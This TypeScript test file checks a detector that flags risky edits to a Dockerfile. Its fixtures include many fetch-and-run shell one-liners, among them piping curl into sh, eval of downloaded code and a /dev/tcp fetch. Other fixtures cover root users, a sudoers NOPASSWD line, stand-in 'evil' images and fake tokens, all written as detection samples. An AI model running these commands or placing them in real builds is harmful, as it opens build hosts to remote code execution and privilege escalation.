import {
  compareConfigFiles,
  marksFor,
  TOOL_CAPABILITY_BLOCK as TOOL,
  validateDockerfile,
} from "../../mod.ts";
import { hasNetworkPipe, type MarkedChange, marksInShort } from "../support/marks.ts";
import { assert, assertEquals } from "@std/assert";

const DIGEST = `sha256:${"4a".repeat(32)}`;

const IN_FORCE = `# syntax=docker/dockerfile:1
ARG NODE=node:22-slim
FROM golang:1.25 AS build
RUN curl -fsSL https://get.example.com/old.sh | sh
ENV CACHE_KEY=v1
COPY . /src

FROM \${NODE}
RUN apt-get update && \\
    apt-get install -y git python3 && \\
    rm -rf /var/lib/apt/lists/*
ADD https://dl.example.com/tool.tar.gz /opt/
ENV PATH=/opt/bin:$PATH LANG=C.UTF-8
COPY --from=build /src/agent /usr/local/bin/
USER agent
CMD ["agent"]
`;

/** The file in force with some of its text replaced. */
function change(...replaced: readonly (readonly [from: string, to: string])[]): string {
  return replaced.reduce((text, [from, to]) => {
    assertEquals(text.split(from).length, 2, `${from} stands there once`);
    return text.replace(from, () => to);
  }, IN_FORCE);
}

/** The file in force with more instructions in front of USER, on line 15. */
const more = (...lines: string[]) => change(["USER agent", `${lines.join("\n")}\nUSER agent`]);

const NOTICED: readonly MarkedChange[] = [
  ["another version of the base", change(["node:22-slim", "node:24-slim"]), "low changed-image +2"],
  ["a digest", change(["golang:1.25", `golang:1.25@${DIGEST}`]), "low changed-image +3"],
  ["another user", change(["USER agent", "USER builder"]), "low new-user +15"],
  [
    "a secret's file",
    more("ENV DB_PASSWORD_FILE=/run/secrets/db TLS_KEY=/etc/tls/key.pem"),
    "low new-variable +15",
  ],
  [
    "a variable that is handed on",
    more("ARG API_TOKEN", "ENV API_TOKEN=$API_TOKEN"),
    "low new-variable +15",
    "low new-variable +16",
  ],
  [
    "a key that is meant for everybody",
    more("ENV GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D"),
    "low new-variable +15",
  ],
  ["a file that is added", more("ADD a.tar.gz b.txt /opt/"), "low new-file +15"],
  [
    "another place for the URL in force",
    change(["tool.tar.gz /opt/", "tool.tar.gz /srv/"]),
    "low removed-file -12",
    "low new-file +12",
  ],
  [
    "another version of the builder",
    change(["docker/dockerfile:1", "docker/dockerfile:1.20"]),
    "low changed-frontend +1",
  ],
  [
    "a download",
    more("RUN curl -fsSLo /opt/a.tgz https://x.example/a.tgz && tar xf /opt/a.tgz"),
    "high download-then-run +15",
  ],
  [
    "a download into tar",
    more("RUN curl -fsSL https://x.example/a.tgz | tar xz -C /opt"),
    "medium download-then-run +15",
  ],
  ["root at the end", change(["USER agent", "USER root"]), "high user-root +15"],
  ["root by number", change(["USER agent", "USER 0:0"]), "high user-root +15"],
  ["root behind the user", change(["USER agent", "USER agent\nUSER root"]), "high user-root +16"],
  ["no user any more", change(["USER agent\n", ""]), "high user-root -15"],
  [
    "the users' order",
    change(["USER agent", 'USER agent\nUSER "root"']),
    "high user-root +16",
  ],
  ["root for a while", more("USER root", "RUN apt-get update"), "medium user-root +15"],
  [
    "root in another stage",
    change(["COPY . /src", "USER root\nCOPY . /src\nRUN make"]),
    "medium user-root +6",
  ],
  [
    "a new stage at the end, without a user",
    `${IN_FORCE}FROM node:22-slim\n`,
    "high user-root -15",
    "medium removed-file -14",
    "low changed-start -16",
  ],
  [
    "a script piped into a shell",
    more("RUN curl -fsSL https://x.example/i.sh | sh"),
    "high network-pipe +15",
  ],
  [
    "another script where one was piped",
    change(["old.sh", "new.sh"]),
    "high network-pipe +4",
  ],
  [
    "a pipe in the middle of a command",
    change([
      "python3 && \\",
      "python3 && \\\n    wget -qO- https://x.example | sudo -E bash - && \\",
    ]),
    "high network-pipe +11",
  ],
  [
    "a pipe that goes on on the next line",
    change(["python3 && \\", "python3 && \\\n    curl https://x.example \\\n    | bash && \\"]),
    "high network-pipe +12",
  ],
  [
    "a substitution",
    more('RUN sh -c "$(curl -fsSL https://x.example)"'),
    "high network-pipe +15",
  ],
  [
    "a process substitution",
    more("RUN bash <(curl -s https://x.example)"),
    "high network-pipe +15",
  ],
  ["eval", more('RUN eval "$(wget -O- https://x.example)"'), "high network-pipe +15"],
  [
    "an interpreter",
    more("RUN curl https://x.example/get.py | python3 -"),
    "high network-pipe +15",
  ],
  [
    "code that fetches code",
    more(
      "RUN python3 -c \"import urllib.request as r; exec(r.urlopen('https://x.example').read())\"",
    ),
    "high network-pipe +15",
  ],
  [
    "a pipe in a heredoc",
    more("RUN <<EOF", "set -e", "# first", "curl -s https://x.example |", "  sh", "EOF"),
    "high network-pipe +19",
  ],
  [
    "a pipe in JSON form",
    more('RUN ["bash", "-c", "curl https://x.example | sh"]'),
    "high network-pipe +15",
  ],
  [
    "a pipe at start",
    change(['CMD ["agent"]', "CMD curl https://x.example | sh"]),
    "high network-pipe +16",
    "low changed-start +16",
  ],
  ["a pipe for later", more("ONBUILD RUN curl https://x.example | sh"), "high network-pipe +15"],
  ["no tag", change(["golang:1.25", "golang"]), "medium unpinned-base-image +3"],
  ["the tag latest", change(["golang:1.25", "golang:latest"]), "medium unpinned-base-image +3"],
  ["an ARG without a tag", change(["node:22-slim", "node"]), "medium unpinned-base-image +2"],
  [
    "another base",
    change(["FROM ${NODE}", "FROM debian:13"]),
    "high changed-base-image +8",
  ],
  [
    "another base by its ARG",
    change(["node:22-slim", "docker.io/evil/node:22-slim"]),
    "high changed-base-image +2",
  ],
  [
    "another base without a tag",
    change(["FROM ${NODE}", "FROM registry.example:5000/node"]),
    "high changed-base-image +8",
    "medium unpinned-base-image +8",
  ],
  [
    "another base of a stage",
    change(["golang:1.25", "rust:1.90"]),
    "medium changed-base-image +3",
  ],
  [
    "another base through a stage",
    change(["FROM ${NODE}", "FROM debian:13 AS base\nFROM base"]),
    "high changed-base-image +8",
  ],
  [
    "a URL that is added",
    more("ADD https://dl.example.com/b.tar.gz /opt/"),
    "medium add-from-url +15",
  ],
  [
    "a repository that is added",
    more("ADD git@git.example.com:a/b.git /src"),
    "medium add-from-url +15",
  ],
  [
    "a URL with a checksum",
    more(`ADD --checksum=${DIGEST} https://dl.example.com/b.tar.gz /opt/`),
    "low add-from-url +15",
  ],
  ["another URL", change(["tool.tar.gz", "tool2.tar.gz"]), "medium add-from-url +12"],
  [
    "a URL among others",
    more("ADD a.txt \\", "  https://dl.example.com/b.tar.gz /opt/"),
    "medium add-from-url +16",
    "low new-file +15",
  ],
  ["a secret in ENV", more("ENV NPM_TOKEN=abcdef"), "high secret +15"],
  ["a secret in ENV of old form", more("ENV DB_PASSWORD correct horse"), "high secret +15"],
  ["a secret in ARG", more("ARG GITHUB_TOKEN=abcdef"), "high secret +15"],
  [
    "a secret on a later line",
    more("ENV A=1 \\", '    AWS_SECRET_ACCESS_KEY="x y"'),
    "high secret +16",
    "low new-variable +15",
  ],
  ["another value", change(["CACHE_KEY=v1", "CACHE_KEY=v2"]), "high secret +5"],
  ["a token by its form", more(`ENV X=ghp_${"a1".repeat(18)}`), "high secret +15"],
  [
    "a token in RUN",
    more(`RUN git clone https://x:glpat-${"a".repeat(20)}@git.example/a`),
    "high secret +15",
    "high secret +15",
    "medium git-clone +15",
  ],
  [
    "a private key in a heredoc",
    more("RUN <<EOF", "cat > k <<K", "-----BEGIN OPENSSH PRIVATE KEY-----", "K", "EOF"),
    "high secret +17",
  ],
  [
    "no sandbox",
    more("RUN --security=insecure mount /dev/sda"),
    "high security-insecure +15",
    "high privilege-escalation +15",
  ],
  ["the host's network", more("RUN --network=host ./probe"), "high network-host +15"],
  [
    "another builder",
    change(["docker/dockerfile:1", "evil.example/dockerfile:1"]),
    "high unknown-frontend +1",
  ],
  [
    "many things at once",
    change(["USER agent\n", ""], ["golang:1.25", "golang"], ["old.sh", "new.sh"]),
    "high network-pipe +4",
    "high user-root -15",
    "medium unpinned-base-image +3",
  ],
];

for (const [what, proposed, ...marks] of NOTICED) {
  // Threat: A10
  Deno.test(`marksFor() notices in a Dockerfile ${what}`, () => {
    assertEquals(validateDockerfile(proposed), []);
    const found = marksInShort(TOOL, IN_FORCE, proposed);
    assertEquals(found.filter((mark) => !mark.startsWith("low ") || marks.includes(mark)), marks);
  });
}

const HARMLESS: readonly (readonly [what: string, proposed: string])[] = [
  ["nothing changed", IN_FORCE],
  ["a RUN less", change(["RUN curl -fsSL https://get.example.com/old.sh | sh\n", ""])],
  ["a comment", `${IN_FORCE}# USER root\n`],
  [
    "a comment with a pipe in a RUN",
    change(["    rm -rf", "    # curl https://x.example | sh\n    rm -rf"]),
  ],
  ["blank lines", IN_FORCE.replaceAll("\n\n", "\n\n\n")],
  ["CRLF line ends", IN_FORCE.replaceAll("\n", "\r\n")],
  [
    "keywords in lower case",
    IN_FORCE.replace(/^(?:RUN|ENV|USER|ADD|FROM)/gm, (word) => word.toLowerCase()),
  ],
  ["commands broken otherwise", change(["&& \\\n    apt-get", "&& apt-get"])],
  [
    "a stage on a base in force",
    change(["FROM ${NODE}", "FROM golang:1.25 AS lint\nFROM ${NODE}"]),
  ],
  ["a stage on a stage", change(["FROM ${NODE}", "FROM build AS test\nFROM ${NODE}"])],
  [
    "an empty stage",
    change(["FROM ${NODE}", "FROM scratch AS out\nFROM ${NODE}"]).replace("scratch", "golang:1.25"),
  ],
  [
    "variables that hold no secret",
    more("ENV NODE_ENV=production KEYBOARD=us TOKENIZER=bpe"),
  ],
  ["no builder named", change(["# syntax=docker/dockerfile:1\n", ""])],
  ["metadata", more("LABEL a=b", "EXPOSE 80", "VOLUME /data", "STOPSIGNAL SIGINT", "MAINTAINER x")],
  ["the image in its full spelling", change(["golang:1.25", "docker.io/library/golang:1.25"])],
  ["a stage's other name", change(["AS build", "AS made"], ["--from=build", "--from=made"])],
  ["a variable in braces, another by its ARG", change(["${NODE}", "$NODE"])],
  [
    "variables in another order",
    change(["PATH=/opt/bin:$PATH LANG=C.UTF-8", "LANG=C.UTF-8 PATH=/opt/bin:${PATH}"]),
  ],
  ["the user again", change(["USER agent", "USER agent\nUSER agent"])],
  ["the shell that is one", more('SHELL ["/bin/sh", "-c"]')],
  ["a text", more("COPY <<EOF /etc/motd", "curl https://x.example | sh", "EOF")],
  ["a check that is the case", more("ENV NODE_TLS_REJECT_UNAUTHORIZED=1")],
  ["a platform", change(["FROM golang", "FROM --platform=linux/amd64 golang"])],
];

/** Edits after which the instructions are the same: the only ones that are proven to add nothing. */
const PROVEN = new Set([
  "nothing changed",
  "a comment",
  "a comment with a pipe in a RUN",
  "blank lines",
  "CRLF line ends",
  "keywords in lower case",
]);

for (const [what, proposed] of HARMLESS) {
  // Threat: A10
  Deno.test(`a Dockerfile has no mark: ${what}`, () => {
    assertEquals(validateDockerfile(proposed), []);
    const { reach, isWhole, added, marks } = compareConfigFiles(TOOL, IN_FORCE, proposed);
    assertEquals([added, marks], [[], []]);
    const isProven = PROVEN.has(what);
    assertEquals([reach, isWhole], [isProven ? "no-new-reach" : "new-reach", isProven]);
  });
}

/** What a reviewer is told of at most in a low voice. */
const TAME: readonly (readonly [what: string, proposed: string])[] = [
  ["a package more", change(["git python3", "git jq python3"])],
  ["another RUN", more("RUN npm ci --ignore-scripts")],
  ["curl itself", change(["git python3", "curl git python3 wget bash"])],
  [
    "a key into a keyring",
    more("RUN curl https://x.example/k | gpg --dearmor -o /usr/share/k.gpg"),
  ],
  ["a download into a filter", more("RUN curl -s https://x.example | python3 -m json.tool > /v")],
  ["a version from the network", more('RUN V=$(curl -s https://x.example/v) && echo "$V" > /v')],
  ["a shell that nothing is piped into", more("RUN bash -c 'set -o pipefail; ls | sort'")],
  ["a check of health", more("HEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1")],
  [
    "the pipe in force, elsewhere",
    `${
      change(["RUN curl -fsSL https://get.example.com/old.sh | sh\n", ""])
    }RUN curl -fsSL https://get.example.com/old.sh  |  sh\n`,
  ],
  ["the pipe in force, beside another command", change(["old.sh | sh", "old.sh | sh && ls"])],
  [
    "a comment with a pipe in a heredoc",
    more("RUN <<EOF", "# curl https://x.example | sh", "ls", "EOF"),
  ],
  ["a user for a while", more("USER nobody", "RUN ./x")],
  ["a secret that the build gets", more("ARG NPM_TOKEN", "RUN --mount=type=secret,id=npm npm ci")],
  ["the build's own sandbox", more("RUN --security=sandbox --network=none ./x")],
];

for (const [what, proposed] of TAME) {
  Deno.test(`marksFor() finds nothing above low in a Dockerfile: ${what}`, () => {
    assertEquals(validateDockerfile(proposed), []);
    const marks = marksInShort(TOOL, IN_FORCE, proposed);
    assertEquals(marks.filter((mark) => !mark.startsWith("low ")), []);
  });
}

Deno.test("marksFor() compares no base where no Dockerfile is in force", () => {
  assertEquals(marksInShort(TOOL, null, "FROM debian:13\nUSER agent\n"), [
    "low new-image +1",
    "low new-user +2",
  ]);
  assertEquals(marksInShort(TOOL, null, "FROM debian\nUSER root\n"), [
    "high user-root +2",
    "medium unpinned-base-image +1",
  ]);
});

Deno.test("marksFor() notices a digest that is gone", () => {
  const pinned = `FROM debian:13@${DIGEST}\nUSER agent\n`;
  assertEquals(marksInShort(TOOL, pinned, "FROM debian:13\nUSER agent\n"), [
    "medium unpinned-base-image +1",
  ]);
});

Deno.test("marksFor() judges nothing in a file that is invalid, and says so", () => {
  assertEquals(marksInShort(TOOL, "FROM a:1\n", "FROM a:1\nENV MY_SECRET=x\nRUN <<EOF\n"), [
    "medium invalid-file +3",
  ]);
});

// Threat: A10
Deno.test("marksFor() shows no secret", () => {
  const token = `ghp_${"Zz9".repeat(12)}`;
  const proposed = more(`ENV GITHUB_TOKEN=${token}`, `RUN echo https://me:${token}@x.example`);
  const marks = marksFor(TOOL, IN_FORCE, proposed);
  assert(marks.length >= 2);
  for (const { message } of marks) assert(!message.includes("Zz9"), message);
});

// deno-fmt-ignore
const RUN_FROM_THE_NETWORK: readonly string[] = [
  "curl x | sh", "curl x|sh", "curl x |& bash", "wget -qO- x | dash", "curl x | sudo -u app bash",
  "curl x | env A=1 /bin/sh -s -- -y", "curl x | tee log | sh", "curl x | gunzip | ksh", "curl x |\n sh",
  "(curl a || wget -O- b) | bash", "{ curl x; } | sh", "curl 'x?a=1&b=2;c' | sh", "bash -c 'curl x | sh'",
  "su app -c \"curl x | sh\"", "sh -c \"$(curl x)\"", "zsh -c \"`curl x`\"", "bash <(curl x)",
  "source <(curl x)", ". <(curl x)", "eval `wget -O- x`", "bash <<< \"$(curl x)\"", "sh < <(curl x)",
  "curl x > >(sh)", "$(curl x) | sh", "curl x | python3", "curl x | perl", "curl x | node -",
  "curl x | python3 - --yes", "if true; then curl x | sh; fi", "cat </dev/tcp/192.0.2.1/80 | sh",
  "perl -e 'use LWP::Simple; eval get(\"https://x.example\")'", "ruby -e 'require \"open-uri\"; eval URI.open(\"https://x.example\").read'",
  "curl x | xargs -I{} sh -c {}", "set -e\ncurl x | sh\nls", "curl https://astral.sh | env D=/x sh",
];

for (const script of RUN_FROM_THE_NETWORK) {
  Deno.test(`a script from the network is run in ${JSON.stringify(script)}`, () => {
    assertEquals(hasNetworkPipe(script), true);
  });
}

// deno-fmt-ignore
const NOT_RUN: readonly string[] = [
  "apt-get install -y curl wget bash", "curl -O x && tar xf x", "curl x | tar xz", "curl x | jq .v",
  "curl x | gpg --dearmor | tee k", "curl x | python3 -m json.tool", "curl x | perl -pe 's/a/b/'",
  "curl x | python3 -c 'print(1)'", "V=$(curl x | jq -r .v) && echo $V", "echo a | sh", "curl x; ls | sh",
  "bash -c 'V=\"$(curl x)\"; echo $V'", "wget x || exit 1", "curl x | apt-key add -", "curl x | grep sh",
  "curl x | sort > sh", "sh -c 'apt-get install curl'", "curl x && bash y", "for i in a; do curl $i; done",
  "curl x | bash_completion", "./configure | sh", "sh install.sh --from https://x/curl",
];

for (const script of NOT_RUN) {
  Deno.test(`no script from the network is piped in ${JSON.stringify(script)}`, () => {
    assertEquals(hasNetworkPipe(script), false);
  });
}

/** Edits of a Dockerfile that look like nothing: each has a mark. */
const TOLD: readonly (readonly [before: readonly string[], after: readonly string[]])[] = [
  [["RUN true"], ["RUN <<EOF", "#!/usr/bin/env -S sh -c x", "true", "EOF"]],
  [[], ["COPY <<EOF /etc/sudoers.d/README", "a ALL=(ALL) NOPASSWD: ALL", "EOF"]],
  [[], ["RUN --mount=type=cache,target=/root/.cache,dst=/usr/local/bin true"]],
  [[], ["RUN --mount=type=tmpfs,target=/opt/guard true"]],
  [["USER 1000"], ["RUN true # && useradd -u 1000 operator", "USER operator"]],
  [[], ["LABEL devcontainer.metadata='[{\"privileged\":true}]'"]],
  [["RUN make"], ["RUN make", "HEALTHCHECK CMD make"]],
  [
    ['ENTRYPOINT ["a","--no-sandbox","--sandbox"]'],
    ['ENTRYPOINT ["a","--sandbox","--no-sandbox"]'],
  ],
  ...["SECURITY_LEVEL=none", "DONT_VERIFY=1", "SUPPRESS_CHECK=1", "COSIGN_KEY_FILE=/etc/../x.pub"]
    .map((variable) => [[], [`ENV ${variable}`]] as const),
];

// Threat: A10
Deno.test("an edit of a Dockerfile that another program or another place makes something of is told", () => {
  const file = (lines: readonly string[]) => `FROM debian:12@${DIGEST}\n${lines.join("\n")}\n`;
  for (const [before, after] of TOLD) {
    assert(marksInShort(TOOL, file(before), file(after)).length > 0, after.join(" "));
  }
});

Deno.test("a Dockerfile that lets less than before has no mark", () => {
  const file = (...lines: string[]) => `FROM debian:12@${DIGEST}\n${lines.join("\n")}\n`;
  const pairs = [
    [file("ENV NODE_TLS_REJECT_UNAUTHORIZED=0"), file()],
    [file("ADD https://x.example/a /a"), file(`ADD --checksum=${DIGEST} https://x.example/a /a`)],
    [
      file("RUN useradd -u 5 dev && true", "USER 5"),
      file("RUN <<EOF", "useradd -u 5 dev", "true", "EOF", "USER dev"),
    ],
  ] as const;
  for (const [before, after] of pairs) assertEquals(marksInShort(TOOL, before, after), [], after);
});
